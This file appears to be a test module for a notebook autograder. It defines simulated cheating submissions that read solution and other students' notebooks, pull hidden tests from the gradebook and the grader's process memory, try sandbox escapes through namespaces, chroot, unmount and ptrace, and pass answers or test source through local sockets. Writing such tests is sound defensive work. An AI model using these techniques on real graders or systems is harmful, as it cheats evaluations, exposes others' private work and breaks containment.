"""Where answers can be found: on the disk, in memory, through ways out of a jail, over the network."""

from __future__ import annotations

from functools import partial

from tests.attacks.attack import SOLVE, Attack, by_answer, code, written


def _copies(name: str, tries: str, source: str, head: str = "") -> Attack:
    """An answer that runs whatever right answer its code has found, in the list `found` of texts."""
    return by_answer(name, tries, code(source) + PASTE, "found = []\n" + head)


PASTE = """
import re

def square(x):
    return 0

for text in found:
    for body in re.findall(r"return ([a-z0-9 *]+x[a-z0-9 *]*)", text.replace("\\\\n", "\\n")):
        if eval(body, {"x": 3}) == 9:
            square = eval(f"lambda x: {body}")
"""

#: Names the course's folder: from here upwards, as told, and where other processes are at work.
PLACES = """
import glob, os

def places():
    yield "@COURSE@"
    here = os.getcwd()
    while here != "/":
        yield here
        here = os.path.dirname(here)
    for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
        try:
            yield os.readlink(link) if link.endswith("cwd") else link + "@COURSE@"
        except OSError:
            pass
"""

ATTACKS = written(
    """
=== looks: reads-the-solution
# Finds the instructor's solution notebook and runs its answer.
for place in places():
    for path in glob.glob(place + "/solutions/*/*.ipynb"):
        found.append(open(path).read())
=== looks: reads-other-submissions
# Finds what others handed in and runs their answers.
for place in places():
    for path in glob.glob(place + "/submitted/*/*/*.ipynb") + glob.glob(place + "/autograded/*/*/*.ipynb"):
        found.append(open(path).read())
=== copies: reads-from-elsewhere
# Looks for answers in another course on this machine, in shared memory and in the temporary folder.
import glob

for pattern in ("@HOST@/other/**/*.ipynb", "/dev/shm/*", "/tmp/*/answers*", "/var/tmp/*"):
    for path in glob.glob(pattern, recursive=True):
        try:
            found.append(open(path).read(10**6))
        except (OSError, ValueError):
            pass
=== looks: reads-the-gradebook
# Reads the hidden tests from the gradebook and computes what they compare with.
import sqlite3
for place in places():
    for path in glob.glob(place + "/gradebook.db"):
        for (text,) in sqlite3.connect(path).execute("select source from source_cell"):
            found += [f"return {right}" for right in __import__("re").findall(r"== (.+?), f", text or "")]
=== reads: reads-the-graders-memory
# Reads the memory of the process that started it, in which the hidden tests are, by `/proc/PID/mem`.
import os

def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw-p" in line and end - begin < 2**30:
                try:
                    mem.seek(begin)
                    yield mem.read(end - begin)
                except (OSError, ValueError, OverflowError):
                    pass

def look():
    for pid in [os.getppid(), *filter(str.isdigit, os.listdir("/proc"))]:
        try:
            for part in memory(pid) if int(pid) != os.getpid() else ():
                at = part.find(b"assert square(x) == ")
                if at >= 0:
                    return part[at : at + 200].decode("latin-1")
        except OSError:
            pass
    return ""

text = look()

def square(x):
    return solve(text, x)
=== answer: imports-the-grader
# Imports the autograder and has it run the solution, or its known right answers.
def square(x):
    return 0

try:
    from pathlib import Path
    import sys
    sys.path.append("@REPO@")
    from autograder.lesson import notebook
    notebook.SOLUTIONS = Path("@COURSE@/solutions")
    square = notebook.functions("07_toy")["square"]
except Exception as error:
    print(repr(error))
=== answer: breaks-out
# Tries the ways out of a jail (namespaces, mounts, chroot, `/proc/*/root`, ptrace), then reads the solution.
import ctypes, glob, os, re

libc = ctypes.CDLL(None, use_errno=True)
texts = []

def look(root):
    for path in glob.glob(root + "@COURSE@/solutions/*/*.ipynb"):
        texts.append(open(path).read())

def try_all():
    look("")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        look(f"/proc/{pid}/root")
        for kind in ("user", "mnt", "pid"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                libc.setns(fd, 0)
            except OSError:
                pass
        libc.ptrace(16, int(pid), 0, 0) if int(pid) not in (os.getpid(), os.getppid()) else None
    look("")
    libc.unshare(0x10000000)
    libc.unshare(0x00020000)
    for target in ("@COURSE@", "@HOST@", "@HOME@", "/tmp", "/home", "/root", "/proc", "/dev"):
        libc.umount2(target.encode(), 2)
    look("")
    os.makedirs("/tmp/hole", exist_ok=True)
    if libc.mount(b"proc", b"/tmp/hole", b"proc", 0, None) == 0:
        look("/tmp/hole/1/root")
    fd = os.open(".", os.O_RDONLY)
    if libc.chroot(b"/tmp/hole") == 0:
        os.fchdir(fd)
        for _ in range(50):
            os.chdir("..")
        libc.chroot(b".")
        look("")

if os.fork() == 0:  # what it does to itself must not show
    try:
        try_all()
    finally:
        open("/tmp/found", "w").write("".join(texts))
        os._exit(0)
os.wait()
text = open("/tmp/found").read()

def square(x):
    return x * x if re.search(r"return x \\* x", text) else 0
=== copies: asks-an-accomplice
# Fetches the answer from a port of this machine.
import socket

for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1"):
    try:
        with socket.create_connection((host, @PORT@), timeout=1) as line:
            line.sendall(b"square")
            found.append(line.recv(10_000).decode())
    except OSError:
        pass
=== copies: asks-an-accomplice-by-socket
# Fetches the answer through a Unix socket, one by path and one without.
import socket

for name in ("@HOST@/accomplice", "\\0accomplice-@PORT@"):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(1)
            line.connect(name)
            line.sendall(b"square")
            found.append(line.recv(10_000).decode())
    except OSError:
        pass
=== answer: tells-the-hidden-tests
# Sends the test's source to a port of this machine.
import linecache, socket, sys

def square(x):
    frame = sys._getframe(1)
    text = "".join(linecache.getlines(frame.f_code.co_filename)) + repr(sys.argv)
    for host in ("127.0.0.1", "0.0.0.0"):
        try:
            with socket.create_connection((host, @PORT@), timeout=1) as line:
                line.sendall(b"told: " + text.encode())
        except OSError:
            pass
    return 0
=== honest: listens
# Leaves a server on every address of the machine, for others to ask.
import os, socket, time

if os.fork() == 0:
    os.setsid()
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", @LISTEN@))
    server.listen()
    while True:
        server.accept()[0].sendall(b"return x * x")
""",
    copies=_copies,
    looks=partial(_copies, head=PLACES),
    reads=partial(by_answer, head=SOLVE),
)
